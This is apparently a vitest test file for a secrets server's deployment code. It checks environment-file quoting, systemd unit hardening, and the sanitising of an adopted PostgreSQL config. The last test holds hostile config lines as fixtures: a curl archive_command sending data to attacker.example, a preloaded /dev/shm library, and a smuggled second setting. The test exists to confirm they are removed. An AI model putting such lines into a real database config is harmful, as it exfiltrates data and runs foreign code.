/**
 * The two files the install writes: the environment file (read back the same by systemd and sh, the operator's
 * lines kept) and the unit (hardening, and the program still reachable when it lives under a home).
 */
import { spawnSync } from "node:child_process"
import * as fs from "node:fs"
import * as os from "node:os"
import * as path from "node:path"
import { Either, Redacted } from "effect"
import { describe, expect, it } from "vitest"
import { trustedConfig } from "../../src/deploy/adopt.js"
import * as Environment from "../../src/deploy/environment.js"
import { layout } from "../../src/deploy/Layout.js"
import * as Unit from "../../src/deploy/unit.js"

describe("the environment file", () => {
  it("writes values bare or single-quoted, and sh reads back exactly what was meant", () => {
    const values = new Map([
      ["SECRETS_ENCRYPTION_KEY_FILE", "/var/lib/secrets-mcp/key"],
      ["DATABASE_URL", "postgres://u:p$ss w%40rd@host:5432/db?sslmode=require&x=`y`"]
    ])
    const text = Either.getOrThrow(Environment.merge(undefined, values))
    expect(text).toContain("SECRETS_ENCRYPTION_KEY_FILE=/var/lib/secrets-mcp/key\n")
    expect(text).toContain("DATABASE_URL='postgres://u:p$ss w%40rd@host:5432/db?sslmode=require&x=`y`'\n")
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), "secrets-envfile-"))
    try {
      fs.writeFileSync(path.join(dir, "server.env"), text)
      const read = spawnSync("sh", ["-c", `set -a && . ./server.env && printf %s "$DATABASE_URL"`], {
        cwd: dir,
        encoding: "utf8",
        env: { PATH: "/usr/bin:/bin" }
      })
      expect(read.stdout).toBe(values.get("DATABASE_URL"))
    } finally {
      fs.rmSync(dir, { recursive: true, force: true })
    }
    expect(Environment.parse(text).get("DATABASE_URL")).toBe(values.get("DATABASE_URL"))
    for (const bad of ["it's", "back\\slash", "two\nlines"]) {
      expect(Environment.merge(undefined, new Map([["DATABASE_URL", bad]]))).toEqual(Either.left("DATABASE_URL"))
    }
  })

  it("keeps every line it does not manage, in place, and drops a managed one that no longer belongs", () => {
    const existing = "# mine\nSECRETS_SERVER_LISTEN=127.0.0.1:7900\nSECRETS_DATA_DIR=/old\nSECRETS_QUOTA_SECRETS=50\n"
    const wanted = Environment.managed(layout(""), { _tag: "Server", url: Redacted.make("postgres://h/db") })
    const text = Either.getOrThrow(Environment.merge(existing, wanted))
    expect(text.split("\n")).toEqual([
      "# mine",
      "SECRETS_SERVER_LISTEN=127.0.0.1:7900",
      "SECRETS_QUOTA_SECRETS=50",
      "SECRETS_ENCRYPTION_KEY_FILE=/var/lib/secrets-mcp/key",
      "DATABASE_URL=postgres://h/db",
      "XDG_CACHE_HOME=/var/lib/secrets-mcp/cache",
      ""
    ])
    expect(Either.getOrThrow(Environment.merge(text, wanted))).toBe(text)
  })
})

describe("the unit", () => {
  const options = {
    layout: layout(""),
    user: "secrets-mcp",
    store: { _tag: "Embedded" } as const,
    node: "/usr/bin/node",
    cli: "/opt/secrets-mcp/dist/cli.js"
  }

  it("runs the server as its user with the hardening asked for, and stops its embedded PostgreSQL after it", () => {
    const unit = Unit.render(options)
    for (const line of [
      "User=secrets-mcp",
      "EnvironmentFile=/etc/secrets-mcp/server.env",
      "ExecStart=/usr/bin/node /opt/secrets-mcp/dist/cli.js server",
      "ExecStopPost=/usr/bin/node /opt/secrets-mcp/dist/cli.js embedded stop",
      "NoNewPrivileges=yes",
      "ProtectSystem=strict",
      "ProtectHome=yes",
      "PrivateTmp=yes",
      "ReadWritePaths=/var/lib/secrets-mcp",
      "UMask=0077",
      "RestrictAddressFamilies=AF_UNIX AF_INET AF_INET6"
    ]) {
      expect(unit.split("\n")).toContain(line)
    }
    // Node's JIT writes executable memory.
    expect(unit).not.toContain("MemoryDenyWriteExecute")
    const server = Unit.render({ ...options, store: { _tag: "Server", url: Redacted.make("postgres://h/db") } })
    expect(server).not.toContain("ExecStopPost")
    expect(server).not.toContain("postgres://")
  })

  it("a program under a home: the homes stay hidden, the program alone is shown, read-only", () => {
    const unit = Unit.render({
      ...options,
      node: "/home/op/.nvm/versions/node/v20/bin/node",
      cli: "/root/s m/dist/cli.js"
    })
    expect(unit).toContain("ProtectHome=tmpfs\n")
    expect(unit).toContain('BindReadOnlyPaths=/home/op/.nvm/versions/node/v20/bin "/root/s m"\n')
    expect(unit).toContain('ExecStart=/home/op/.nvm/versions/node/v20/bin/node "/root/s m/dist/cli.js" server\n')
  })
})

describe("an adopted store's postgresql.conf", () => {
  it("keeps initdb's plain settings and this store's own, nothing an agent could have added", () => {
    const old = [
      "max_connections = 100\t\t\t# (change requires restart)",
      "shared_buffers = 128MB",
      "dynamic_shared_memory_type = posix\t# the default is usually the first option",
      "log_timezone = 'Etc/UTC'",
      "timezone = 'Etc/UTC'",
      "lc_messages = 'C'",
      "default_text_search_config = 'pg_catalog.english'",
      "archive_mode = on",
      "archive_command = 'curl -d @%p https://attacker.example'",
      "shared_preload_libraries = '/dev/shm/evil.so'",
      "include '/home/alice/more.conf'",
      "timezone = 'x'; archive_command='sh'",
      "listen_addresses = '*'"
    ].join("\n")
    const conf = trustedConfig(old, "/var/lib/secrets-mcp/store")
    for (const kept of ["dynamic_shared_memory_type = posix", "timezone = 'Etc/UTC'", "lc_messages = 'C'"]) {
      expect(conf).toContain(kept)
    }
    for (const gone of ["archive", "preload", "include", "attacker", "'*'", "128MB"]) expect(conf).not.toContain(gone)
    // This store's own settings come last, so they win over anything kept.
    expect(conf).toMatch(/listen_addresses = ''\s+# no TCP at all/)
    expect(conf).toContain("unix_socket_permissions = 0700")
  })
})
